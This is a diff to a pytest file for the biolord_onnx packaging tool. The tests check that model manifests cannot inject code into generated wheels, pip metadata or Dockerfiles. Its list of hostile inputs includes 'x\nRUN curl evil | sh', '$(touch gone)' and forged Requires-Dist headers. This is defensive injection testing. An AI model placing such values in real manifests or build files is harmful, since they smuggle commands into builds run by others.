@@ -3,14 +3,18 @@
 from __future__ import annotations
 
 import json
+import re
 import sys
 import zipfile
-from dataclasses import replace
-from email.parser import Parser
+from dataclasses import dataclass, replace
+from email.message import Message
+from email.parser import BytesParser, Parser
 from pathlib import Path
 
 import numpy as np
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from biolord_onnx import __version__
 from biolord_onnx.artifact import Artifact, open_artifact
@@ -18,6 +22,8 @@ from biolord_onnx.embedder import Embedder
 from biolord_onnx.errors import ArtifactError, InputError
 from biolord_onnx.installed import installed_artefacts, normalise
 from biolord_onnx.pack.artefact_wheel import engine_extra, name_wheel, write_artefact_wheel
+from biolord_onnx.pack.docker import write_context
+from unit.runtime.tiny_artifact import edit_manifest, flip, tiny_manifest, write_manifest
 
 
 @pytest.fixture
@@ -102,3 +108,97 @@ def test_versions_that_are_none(artifact: Artifact, version: str) -> None:
     """They are refused, too."""
     with pytest.raises(InputError, match=r"--version is .*, expected a version like 1\.0"):
         name_wheel(artifact, version=version)
+
+
+HOSTILE = st.text(max_size=30) | st.sampled_from(
+    [
+        '"""\nraise SystemExit(3)\n"""',
+        "x\nRequires-Dist: evil",
+        "x\r\n\r\nbody",
+        "x\x0bName: evil",
+        "x\u2028Name: evil",
+        "syntax=evil/frontend",
+        "escape=`",
+        "x\\",
+        "x\nRUN curl evil | sh",
+        "$(touch gone)",
+        "${PATH}",
+        "'; touch gone; '",
+    ]
+)
+
+
+@given(name=HOSTILE, target=HOSTILE, licence=HOSTILE)
+def test_a_manifest_says_nothing_to_python_pip_or_docker(
+    tiny: Path, tmp_path_factory: pytest.TempPathFactory, name: str, target: str, licence: str
+) -> None:
+    """Whatever stands in it: the same source, the same headers, the same orders."""
+    folder = tmp_path_factory.mktemp("packs")
+    plain = open_artifact(tiny)
+    manifest = replace(plain.manifest, name=name, target=target, licence=licence)
+    hostile = replace(plain, manifest=manifest)
+    found, expected = (_packed(one, folder / kind) for kind, one in (("hostile", hostile), ("plain", plain)))
+    assert found.source == expected.source
+    assert {*found.metadata.keys()} == {*expected.metadata.keys()}
+    assert len(found.metadata.keys()) == len(expected.metadata.keys())
+    assert found.metadata["Requires-Dist"].startswith("biolord-onnx[c")
+    assert found.orders == [line.replace("[cpu,", f"[{engine_extra(hostile)},") for line in expected.orders]
+
+
+@dataclass(frozen=True)
+class Packed:
+    """What others read of a pack."""
+
+    source: str
+    metadata: Message
+    orders: list[str]
+
+
+def _packed(artifact: Artifact, folder: Path) -> Packed:
+    folder.mkdir()
+    wheel = write_artefact_wheel(artifact, folder, name_wheel(artifact, "x", "1"))
+    with zipfile.ZipFile(wheel) as archive:
+        source = archive.read("artefact_x/__init__.py").decode()
+        metadata = BytesParser().parsebytes(archive.read("x-1.dist-info/METADATA"))
+        for name in archive.namelist():
+            assert re.fullmatch(r"(artefact_x|x-1\.dist-info)/[\w./]+", name)
+    (folder / "wheels").mkdir()
+    write_context(folder, artifact, folder / "wheels" / "own.whl", "3.12")
+    lines = (folder / "Dockerfile").read_text("utf-8").splitlines()
+    assert re.fullmatch(r"#   docker build --tag [a-z0-9-]+ \.", lines[1])
+    return Packed(source, metadata, [lines[0], *(line for line in lines if not line.startswith("#"))])
+
+
+@pytest.mark.parametrize("name", ["__init__.py", "evil.py", "evil.so", "evil.pth", "METADATA", "x.JSON", "Dockerfile"])
+def test_a_pack_holds_no_code(tiny_copy: Path, tmp_path: Path, name: str) -> None:
+    """Python would import it from the package that the artifact becomes."""
+    (tiny_copy / name).write_text("raise SystemExit(3)\n", "utf-8")
+    write_manifest(tiny_copy, tiny_manifest())
+    artifact = open_artifact(tiny_copy)
+    with pytest.raises(
+        ArtifactError, match=rf"lists '{name}', expected NOTICE or a name that ends in one of \.bin, \.da"
+    ):
+        write_artefact_wheel(artifact, tmp_path, name_wheel(artifact))
+
+
+def test_a_file_that_is_replaced_before_it_is_packed(tiny_copy: Path, tmp_path: Path) -> None:
+    """What was checked is what is carried; the manifest is the one that was read."""
+    artifact = open_artifact(tiny_copy)
+    edit_manifest(tiny_copy, "name", value="other")
+    wheel = write_artefact_wheel(artifact, tmp_path, name_wheel(artifact))
+    with zipfile.ZipFile(wheel) as archive:
+        assert archive.read("artefact_tiny_cpu_fp32/manifest.json") == artifact.document
+    flip(tiny_copy / "model.onnx.data", 0)
+    for write in (
+        lambda: write_artefact_wheel(artifact, tmp_path, name_wheel(artifact)),
+        lambda: write_context(tmp_path, artifact, tmp_path / "own.whl", "3.12"),
+    ):
+        with pytest.raises(ArtifactError, match=r"model\.onnx\.data was changed while it was packed"):
+            write()
+
+
+@pytest.mark.parametrize("name", ["", " "])
+def test_an_empty_name_is_not_the_artifacts_own(artifact: Artifact, name: str) -> None:
+    """Somebody's variable was empty."""
+    with pytest.raises(InputError, match="can't name a package"):
+        name_wheel(artifact, name)
